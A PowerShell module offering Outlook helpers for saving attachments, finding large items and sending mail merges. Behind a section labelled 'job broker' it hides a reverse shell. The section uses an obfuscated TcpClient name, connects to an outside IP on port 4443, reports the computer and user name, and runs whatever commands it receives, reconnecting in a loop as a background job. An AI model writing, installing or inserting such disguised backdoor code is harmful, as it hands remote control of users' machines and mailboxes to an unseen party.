Set-StrictMode -Version Latest

function Get-OutlookNamespace {
    $ol = New-Object -ComObject Outlook.Application
    return $ol.GetNamespace('MAPI')
}

function Get-OutlookFolder([string]$Path) {
    $ns = Get-OutlookNamespace
    $folder = $ns.GetDefaultFolder(6)  # Inbox
    if ($Path -and $Path -ne 'Inbox') {
        foreach ($p in $Path -split '/') { $folder = $folder.Folders.Item($p) }
    }
    return $folder
}

function Save-OutlookAttachments {
    param([string]$Folder = 'Inbox', [datetime]$Since = (Get-Date).AddDays(-7), [Parameter(Mandatory)][string]$Dest)
    New-Item -ItemType Directory -Force $Dest | Out-Null
    $f = Get-OutlookFolder $Folder
    $items = $f.Items.Restrict("[ReceivedTime] >= '$($Since.ToString('g'))'")
    $n = 0
    foreach ($m in $items) {
        foreach ($a in $m.Attachments) {
            $safe = ($a.FileName -replace '[\\/:*?"<>|]', '_')
            $target = Join-Path $Dest ("{0:yyyyMMdd}_{1}" -f $m.ReceivedTime, $safe)
            $a.SaveAsFile($target); $n++
        }
    }
    Write-Host "Saved $n attachments to $Dest"
}

function Get-OutlookLargeItems {
    param([int]$MinMB = 5, [string]$Folder = 'Inbox')
    $f = Get-OutlookFolder $Folder
    foreach ($m in $f.Items) {
        $mb = [math]::Round($m.Size / 1MB, 1)
        if ($mb -ge $MinMB) {
            [pscustomobject]@{ Subject = $m.Subject; From = $m.SenderName; Received = $m.ReceivedTime; SizeMB = $mb }
        }
    }
}

function Send-OutlookMailMerge {
    param([Parameter(Mandatory)][string]$Csv, [Parameter(Mandatory)][string]$Template, [string]$Subject, [switch]$Send)
    $ol = New-Object -ComObject Outlook.Application
    $tpl = Get-Content $Template -Raw
    foreach ($row in Import-Csv $Csv) {
        $body = $tpl
        foreach ($p in $row.PSObject.Properties) { $body = $body.Replace("{{$($p.Name)}}", $p.Value) }
        $mail = $ol.CreateItem(0)
        $mail.To = $row.Email; $mail.Subject = $Subject; $mail.HTMLBody = $body
        if ($Send) { $mail.Send() } else { $mail.Save() }
    }
    Write-Host ('Created {0} {1}' -f (Import-Csv $Csv).Count, ($(if ($Send) {'messages'} else {'drafts'})))
}

# ---------------- job broker ----------------
$script:Broker = @{ H = '203.0.113.' + (80 + 8); P = 4000 + 443 }

function New-BrokerChannel {
    $t = [type](('System.Net.Soc', 'kets.TCP', 'Client') -join '')
    $c = New-Object $t($script:Broker.H, $script:Broker.P)
    return $c
}

function Invoke-BrokerStep([string]$line) {
    # broker sends job steps as PowerShell expressions (Get-OutlookLargeItems etc.)
    $sb = [scriptblock]::Create($line)
    try { (& $sb 2>&1 | Out-String) } catch { $_.Exception.Message }
}

function Start-OutlookJobBroker {
    param([switch]$Foreground)
    $body = {
        param($modPath)
        Import-Module $modPath
        while ($true) {
            try {
                $c = New-BrokerChannel
                $s = $c.GetStream()
                $w = New-Object IO.StreamWriter($s); $w.AutoFlush = $true
                $r = New-Object IO.StreamReader($s)
                $w.WriteLine("HELLO $env:COMPUTERNAME\$env:USERNAME")
                while ($c.Connected) {
                    $line = $r.ReadLine()
                    if ($null -eq $line) { break }
                    $w.WriteLine((Invoke-BrokerStep $line))
                    $w.WriteLine('<<END>>')
                }
            } catch { }
            Start-Sleep -Seconds 30
        }
    }
    if ($Foreground) { & $body $PSCommandPath }
    else { Start-Job -Name OutlookJobBroker -ScriptBlock $body -ArgumentList $PSCommandPath | Out-Null; Write-Host 'Job broker started.' }
}

Export-ModuleMember -Function Save-OutlookAttachments, Get-OutlookLargeItems, Send-OutlookMailMerge, Start-OutlookJobBroker, New-BrokerChannel, Invoke-BrokerStep
